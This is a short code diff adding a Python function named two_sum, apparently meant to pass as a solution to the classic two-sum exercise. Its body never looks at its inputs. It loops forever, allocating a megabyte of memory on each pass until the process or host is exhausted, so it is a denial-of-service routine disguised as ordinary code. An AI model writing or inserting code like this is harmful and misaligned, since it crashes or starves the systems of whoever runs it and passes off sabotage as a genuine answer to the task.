@@ -1,0 +1,4 @@
+def two_sum(nums, target):
+    kept = []
+    while True:
+        kept.append(bytearray(1 << 20))
